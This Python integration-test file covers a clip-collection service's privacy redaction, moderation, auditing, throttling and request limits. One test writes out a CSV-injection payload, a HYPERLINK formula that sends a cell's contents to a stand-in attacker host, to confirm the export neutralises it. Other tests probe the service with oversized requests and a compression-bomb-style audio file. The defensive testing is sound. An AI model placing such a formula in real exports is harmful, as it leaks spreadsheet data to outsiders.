"""Nothing personal reaches the public: moderators review raw text with its personal data
marked, approval publishes exactly what they saw, a later change sends the clip back; erased
clips stay erased; exports cannot carry formulas; the service refuses abuse."""

import csv
import io
import socket
import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path

import httpx
import numpy as np
import pytest
import soundfile as sf
import uvicorn
from fastapi.testclient import TestClient

from ingest.http.app import create_app
from ingest.receive.intake import InboundClip
from ingest.roles import Role
from ingest.settings import IngestSettings
from ingest.store.models import ApiToken, Clip
from ingest.store.tokens import create_token
from shared.topics import Channel, Topics
from tests.conftest import BOOTH
from tests.integration.conftest import Api
from tests.support.broker import free_port
from tests.support.clips import meta_for
from tests.support.waiting import wait_until

SAID = "Jeg hedder Anna Berg, ring på treogtyve femogfyrre syvogtres niogfirs om bænkene."


def review(api: Api, clip_id: str) -> dict[str, object]:
    return api.get(f"/api/clips/{clip_id}/review", Role.MODERATOR)  # type: ignore[no-any-return]


def moderate(api: Api, clip_id: str, action: str) -> None:
    response = api.client.post(
        f"/api/clips/{clip_id}/moderation", json={"action": action}, headers=api.as_(Role.MODERATOR)
    )
    assert response.status_code == 200, response.text


def public_texts(api: Api) -> list[str]:
    return [item["text"] for item in api.get("/public/clips", None)["items"]]


def test_review_approve_publish_correct_and_back_to_pending(api: Api) -> None:
    clip_id = api.add_clip(SAID)
    seen = review(api, clip_id)
    assert seen["raw"] == SAID  # the moderator sees what was said
    spans = seen["spans"]
    assert isinstance(spans, list)
    assert [(s["kind"], s["text"]) for s in spans] == [
        ("name", "Anna Berg"),
        ("phone", "treogtyve femogfyrre syvogtres niogfirs"),
    ]
    assert seen["published"] == "Jeg hedder [navn], ring på [telefon] om bænkene."
    assert public_texts(api) == []  # pending: nothing public yet

    # The moderator also hides "bænkene" (say it named a private garden) and approves.
    start = SAID.index("bænkene")
    edited = [*spans, {"start": start, "end": start + len("bænkene"), "kind": "address"}]
    response = api.client.put(
        f"/api/clips/{clip_id}/review",
        json={"spans": [{k: s[k] for k in ("start", "end", "kind")} for s in edited]},
        headers=api.as_(Role.MODERATOR),
    )
    assert response.status_code == 200, response.text
    preview = response.json()["published"]
    assert preview == "Jeg hedder [navn], ring på [telefon] om [adresse]."
    moderate(api, clip_id, "approve")
    assert public_texts(api) == [preview]  # exactly what the moderator saw
    planner_view = api.get(f"/api/clips/{clip_id}")["text"]
    assert planner_view == preview

    # A moderator corrects the text: it leaves the public site until reviewed again.
    corrected = "Jeg hedder Anna Berg. Ring 87654321 om bænkene."
    response = api.client.put(
        f"/api/clips/{clip_id}/transcript",
        json={"text": corrected},
        headers=api.as_(Role.MODERATOR),
    )
    assert response.status_code == 200
    assert response.json()["moderation"] == "pending"
    assert public_texts(api) == []
    again = review(api, clip_id)
    assert again["published"] == "Jeg hedder [navn]. Ring [telefon] om bænkene."
    moderate(api, clip_id, "approve")
    assert public_texts(api) == [again["published"]]
    entries = api.get("/api/audit", Role.ADMIN, clip_id=clip_id)
    actions = sorted(e["action"] for e in entries)
    # Both reads of the raw text (/review) are audited too.
    assert actions == [
        "approve",
        "approve",
        "correct",
        "read_raw",
        "read_raw",
        "spans",
        "unpublish",
    ]


def test_possible_names_are_shown_and_counted_but_not_hidden(api: Api) -> None:
    said = "Vi så Xiluana ved bænkene ved Dokk1, og Borgmesteren kom også."
    clip_id = api.add_clip(said)
    seen = review(api, clip_id)
    # "Xiluana" is on no list of names: a suspect; a place and a public role are not.
    assert [(s["kind"], s["text"]) for s in seen["suspects"]] == [("name", "Xiluana")]  # type: ignore[index]
    assert seen["suspect_count"] == 1
    assert seen["published"] == said  # suspects are only pointed out
    start = said.index("Xiluana")
    response = api.client.put(
        f"/api/clips/{clip_id}/review",
        json={"spans": [{"start": start, "end": start + len("Xiluana"), "kind": "name"}]},
        headers=api.as_(Role.MODERATOR),
    )
    assert response.json()["published"] == said.replace("Xiluana", "[navn]")
    assert response.json()["suspect_count"] == 0  # hidden now, so no longer a suspect


def test_a_licence_plate_is_hidden_as_one_and_can_be_marked_by_hand(api: Api) -> None:
    said = "Bilen CX 41 228 holder på stien, og den røde bil fra nummer 3 har AB 12 9 87."
    clip_id = api.add_clip(said)
    seen = review(api, clip_id)
    assert [(s["kind"], s["text"]) for s in seen["spans"]] == [("plate", "CX 41 228")]  # type: ignore[index]
    # A plate said in an odd grouping is left to the moderator, who marks it as a plate.
    start = said.index("AB 12 9 87")
    response = api.client.put(
        f"/api/clips/{clip_id}/review",
        json={
            "spans": [
                *({k: s[k] for k in ("start", "end", "kind")} for s in seen["spans"]),  # type: ignore[attr-defined]
                {"start": start, "end": start + len("AB 12 9 87"), "kind": "plate"},
            ]
        },
        headers=api.as_(Role.MODERATOR),
    )
    assert response.status_code == 200, response.text
    assert response.json()["published"] == (
        "Bilen [nummerplade] holder på stien, og den røde bil fra nummer 3 har [nummerplade]."
    )


def test_spans_outside_the_text_are_refused(api: Api) -> None:
    clip_id = api.add_clip("kort")
    response = api.client.put(
        f"/api/clips/{clip_id}/review",
        json={"spans": [{"start": 2, "end": 40, "kind": "name"}]},
        headers=api.as_(Role.MODERATOR),
    )
    assert response.status_code == 422
    planner = api.client.get(f"/api/clips/{clip_id}/review", headers=api.as_(Role.PLANNER))
    assert planner.status_code == 403  # raw text with highlights is for moderators


def test_segments_are_redacted_over_their_joins(api: Api) -> None:
    clip_id = api.add_clip("ring på 23 45 67 89")
    with api.service.sessions.begin() as session:
        from ingest.store.models import Segment

        clip = session.get(Clip, clip_id)
        assert clip is not None
        clip.segments = [
            Segment(idx=0, start_s=0, end_s=2, text="ring på 23 45"),
            Segment(idx=1, start_s=2, end_s=4, text="67 89"),
        ]
    segments = api.get(f"/api/clips/{clip_id}")["segments"]
    assert [s["text"] for s in segments] == ["ring på [telefon]", "[telefon]"]


def test_listening_and_exporting_are_audited(api: Api) -> None:
    clip_id = api.add_clip("hello")
    assert api.client.get(f"/api/clips/{clip_id}/audio", headers=api.as_(Role.PLANNER)).is_success
    api.client.get(
        "/api/export", params={"theme": "parks", "q": "bænk"}, headers=api.as_(Role.PLANNER)
    )
    review(api, clip_id)
    entries = api.get("/api/audit", Role.ADMIN)
    assert {"listen", "export", "read_raw"} <= {e["action"] for e in entries}
    export = next(e for e in entries if e["action"] == "export")
    assert export["detail"]["filters"] == {"theme": "parks", "q": "bænk"}
    read = next(e for e in entries if e["action"] == "read_raw")
    assert read["clip_id"] == clip_id and read["actor"].startswith("moderator-user")


def test_csv_cells_cannot_run_as_formulas(api: Api) -> None:
    clip_id = api.add_clip('=HYPERLINK("http://evil.example/?"&A1,"klik")')
    moderate(api, clip_id, "approve")
    body = api.client.get("/api/export", headers=api.as_(Role.PLANNER)).text
    (row,) = list(csv.DictReader(io.StringIO(body)))
    assert row["text"].startswith("'=HYPERLINK")


def test_an_erased_clip_delivered_again_is_acked_and_dropped(api: Api) -> None:
    meta = meta_for(api.payload, BOOTH, api.ms, receipt="55554444")
    inbound = InboundClip(Topics().booth(BOOTH, Channel.CLIPS), api.payload, meta.to_dict())
    assert api.service.intake.accept(inbound).status == "stored"
    erased = api.client.post(
        "/api/erasures", json={"receipt": "55554444"}, headers=api.as_(Role.ADMIN)
    )
    assert erased.json() == {"erased": [str(meta.clip_id)]}
    ack = api.service.intake.accept(inbound)  # the booth never got the first ack
    assert ack.status == "stored"  # so it deletes its copy
    with api.service.sessions() as session:
        assert session.get(Clip, str(meta.clip_id)) is None


def test_the_registry_decides_a_clips_neighborhood(api: Api) -> None:
    meta = meta_for(api.payload, BOOTH, api.ms, neighborhood="trige")  # registered: gellerup
    inbound = InboundClip(Topics().booth(BOOTH, Channel.CLIPS), api.payload, meta.to_dict())
    ack = api.service.intake.accept(inbound)
    assert (ack.status, ack.reason) == ("rejected", "neighborhood_mismatch")


def test_once_themes_are_managed_a_clip_needs_a_known_theme(api: Api) -> None:
    api.client.post(
        "/api/themes",
        json={"slug": "harbour", "title": "Havnen", "question": "Hvad skal havnen være?"},
        headers=api.as_(Role.PLANNER),
    )
    outcomes = {}
    for theme in ("harbour", "general", "nowhere"):
        meta = meta_for(api.payload, BOOTH, api.ms, theme=theme)
        topic = Topics().booth(BOOTH, Channel.CLIPS)
        ack = api.service.intake.accept(InboundClip(topic, api.payload, meta.to_dict()))
        outcomes[theme] = ack.reason or ack.status
    assert outcomes == {"harbour": "stored", "general": "stored", "nowhere": "unknown_theme"}


def test_tokens_expire_and_are_revoked_by_id(api: Api) -> None:
    with api.service.sessions.begin() as session:
        old = create_token(session, "old-planner", Role.PLANNER, days=1)
    headers = {"Authorization": f"Bearer {old}"}
    assert api.client.get("/api/clips", headers=headers).status_code == 200
    with api.service.sessions.begin() as session:
        token = session.query(ApiToken).filter_by(name="old-planner").one()
        token.expires_at = datetime.now(UTC) - timedelta(minutes=1)
        token_id = token.id
    assert api.client.get("/api/clips", headers=headers).status_code == 401

    from ingest.store.tokens import revoke_token

    with api.service.sessions.begin() as session:
        fresh = create_token(session, "old-planner", Role.PLANNER)
    fresh_headers = {"Authorization": f"Bearer {fresh}"}
    assert api.client.get("/api/clips", headers=fresh_headers).status_code == 200
    with api.service.sessions.begin() as session:
        assert revoke_token(session, str(token_id + 1)) == 1
    assert api.client.get("/api/clips", headers=fresh_headers).status_code == 401


def test_failed_sign_ins_are_throttled(api: Api) -> None:
    wrong = {"Authorization": "Bearer dn_guess"}
    answers = [api.client.get("/api/clips", headers=wrong) for _ in range(12)]
    assert [a.status_code for a in answers] == [401] * 12  # a wrong token is always 401
    assert all("retry-after" not in a.headers for a in answers[:10])
    assert all(int(a.headers["Retry-After"]) > 0 for a in answers[10:])  # then: wait
    # A valid token from the same address (one city hall behind one NAT) is never held up.
    for role in (Role.PLANNER, Role.ADMIN):
        assert api.client.get("/api/clips", headers=api.as_(role)).status_code == 200
    assert "retry-after" in api.client.get("/api/clips", headers=wrong).headers


def test_failed_sign_ins_from_one_ipv6_network_count_together(api: Api) -> None:
    wrong = {"Authorization": "Bearer dn_guess"}

    def sign_in_from(address: str) -> httpx.Response:
        return TestClient(api.client.app, client=(address, 40000)).get("/api/me", headers=wrong)

    answers = [sign_in_from(f"2001:db8:5:6::{n + 1:x}") for n in range(11)]
    assert all("retry-after" not in a.headers for a in answers[:10])
    assert "retry-after" in answers[10].headers
    assert "retry-after" not in sign_in_from("2001:db8:5:7::1").headers


def test_a_small_prompt_that_decodes_huge_is_refused(api: Api, tmp_path: Path) -> None:
    api.client.post(
        "/api/themes",
        json={"slug": "harbour", "title": "Havnen", "question": "Hvad skal havnen være?"},
        headers=api.as_(Role.PLANNER),
    )
    silence = io.BytesIO()
    sf.write(silence, np.zeros(16000 * 600, np.int16), 16000, format="FLAC")  # 10 minutes
    assert len(silence.getvalue()) < 200_000
    response = api.client.put(
        "/api/themes/harbour/prompt",
        content=silence.getvalue(),
        headers={**api.as_(Role.PLANNER), "Content-Type": "application/octet-stream"},
    )
    assert response.status_code == 422 and "at most 60 s" in response.text


def test_search_terms_never_reach_the_log(api: Api, caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level("DEBUG"):
        api.get("/api/clips", q="hjertestarter")
    served = [r.getMessage() for r in caplog.records if not r.name.startswith("httpx")]
    assert "GET /api/clips 200" in served  # the access log is there, without the query
    assert not [line for line in served if "hjertestarter" in line]


def test_every_page_carries_security_headers(api: Api) -> None:
    for path in ("/", "/planner", "/public/clips", "/api/clips"):
        headers = api.client.get(path).headers
        assert headers["x-content-type-options"] == "nosniff"
        assert headers["referrer-policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in headers["content-security-policy"]
        assert "'unsafe-inline'" not in headers["content-security-policy"]


# The wall in front of the routes, against a real server: a client that sends headers
# and then stalls shows whether the body was waited for.


@pytest.fixture
def server(tmp_path: Path) -> Iterator[int]:
    settings = IngestSettings(data_dir=tmp_path / "ingest", max_request_bytes=100_000)
    app = create_app(settings, receive=False, transcribe=False)
    port = free_port()
    config = uvicorn.Config(app, host="127.0.0.1", port=port, log_config=None, access_log=False)
    running = uvicorn.Server(config)
    thread = threading.Thread(target=running.run, daemon=True)
    thread.start()
    assert wait_until(lambda: running.started, 30)
    with app.state.service.sessions.begin() as session:
        app.state.token = create_token(session, "t", Role.PLANNER)
    yield port
    running.should_exit = True
    thread.join(10)


def status_after_headers(port: int, head: str) -> int:
    """Send only the request head; the answer must come without the body."""
    with socket.create_connection(("127.0.0.1", port), timeout=5) as conn:
        conn.sendall(head.encode())
        answer = conn.recv(200).decode()
    return int(answer.split()[1])


def test_no_token_is_refused_before_the_body_is_read(server: int) -> None:
    head = (
        "PUT /api/clips/00000000-0000-0000-0000-000000000000/transcript HTTP/1.1\r\n"
        "Host: x\r\nContent-Type: application/json\r\nContent-Length: 300000000\r\n\r\n"
    )
    assert status_after_headers(server, head) == 401


def test_a_body_over_the_limit_is_refused_before_it_is_read(server: int) -> None:
    head = (
        "PUT /api/clips/00000000-0000-0000-0000-000000000000/transcript HTTP/1.1\r\n"
        "Host: x\r\nAuthorization: Bearer whatever\r\nContent-Type: application/json\r\n"
        "Content-Length: 300000000\r\n\r\n"
    )
    assert status_after_headers(server, head) == 413


def test_a_chunked_body_over_the_limit_is_cut_off(server: int) -> None:
    chunk = b"x" * 50_000
    with socket.create_connection(("127.0.0.1", server), timeout=5) as conn:
        conn.sendall(
            b"PUT /api/clips/00000000-0000-0000-0000-000000000000/transcript HTTP/1.1\r\n"
            b"Host: x\r\nAuthorization: Bearer whatever\r\nContent-Type: application/json\r\n"
            b"Transfer-Encoding: chunked\r\n\r\n"
        )
        answer = b""
        for _ in range(10):  # 500 KB offered; the limit is 100 KB
            try:
                conn.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
            except OSError:
                break
            conn.settimeout(0.2)
            try:
                answer = conn.recv(200)
            except TimeoutError:
                continue
            if answer:
                break
    assert answer.split()[1] == b"413"


def test_raw_text_past_its_retention_keeps_only_the_redacted_text(api: Api) -> None:
    from ingest.review.retention import purge_raw_text

    old = api.add_clip("Ring på 23 45 67 89 om parken")
    new = api.add_clip("Ring på 87 65 43 21 om skolen")
    with api.service.sessions.begin() as session:
        clip = session.get(Clip, old)
        assert clip is not None
        clip.received_at = datetime.now(UTC) - timedelta(days=40)
    assert purge_raw_text(api.service.sessions, days=30) == 1
    raw_old = api.get(f"/api/clips/{old}", Role.ADMIN)["text"]
    history = api.get(f"/api/clips/{old}/history", Role.ADMIN)
    assert raw_old == "Ring på [telefon] om parken"  # even an admin sees no number now
    assert all("23 45" not in v["text"] for v in history)
    assert api.get(f"/api/clips/{new}", Role.ADMIN)["text"] == "Ring på 87 65 43 21 om skolen"
